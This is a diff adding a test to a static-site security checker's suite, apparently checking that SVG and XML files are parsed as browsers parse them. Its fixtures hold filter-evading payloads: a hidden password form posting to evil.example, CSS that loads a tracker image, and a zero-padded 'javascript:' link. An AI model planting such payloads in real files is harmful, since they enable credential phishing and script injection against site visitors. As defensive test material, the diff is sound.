@@ -144,6 +144,29 @@ describe('files of static/', () => {
     expect(result.stderr).toMatch(new RegExp(`build failed: ${Object.keys(refused).length} errors`));
   });
 
+  it("reads a label's tags past a '>' in a quoted value, and character references with leading zeros, as XML does", async () => {
+    // Each of these was published and, from a plain static host, did in Chromium what the comment says.
+    const label = (inner: string, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="400" height="300"${attributes}>${inner}</foreignObject></svg>\n`;
+    const site = await fixtureCopy('basic', 'security-static-svg-label-quotes', {
+      // Read as an empty <foreignObject/>: its password form submitted to another site.
+      'static/img/self-closing.svg': label('<div xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/"><input type="password" name="p"/><button>Log in</button></form></div>', ' class="/>"'),
+      // The tag ended at title's '>': the style after it went unread and fetched the tracker's image.
+      'static/img/quoted-gt.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" title=">" style="background: url(https://tracker.example/p.gif)">x</div>'),
+      // &#000000000040; is "(": the style fetched the tracker's image.
+      'static/img/zero-padded.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" style="background: url&#000000000040;https://tracker.example/p.gif)">x</div>'),
+      // &#00000000106; is "j": the link ran its script on the site's origin.
+      'static/feed.xml': '<html xmlns="http://www.w3.org/1999/xhtml"><body><a href="&#00000000106;avascript:alert(origin)">click</a></body></html>\n',
+      'static/img/label.svg': label('<div xmlns="http://www.w3.org/1999/xhtml" title="a > b" style="color: red">a &gt; b<br/></div>'),
+    });
+    const result = await runCli(['check', site]);
+    expect(result.code).toBe(1);
+    for (const name of ['self-closing.svg', 'quoted-gt.svg', 'zero-padded.svg'])
+      expect(result.stderr).toMatch(new RegExp(`static/img/${name.replace('.', '\\.')}:1:41  error  static/img/${name.replace('.', '\\.')} holds a <foreignObject> holding more than styled text`));
+    expect(result.stderr).toContain('static/feed.xml:1:59  error  static/feed.xml holds a javascript: URL');
+    expect(result.stderr).not.toContain('label.svg');
+    expect(result.stderr).toMatch(/check failed: 4 errors/);
+  });
+
   it('reads the file as a browser does: any namespace prefix, UTF-16, and the entities it declares', async () => {
     // Each of these passed the check and ran its script in Chromium from a plain static host.
     const site = await fixtureCopy('basic', 'security-static-svg-read-as-browser', {
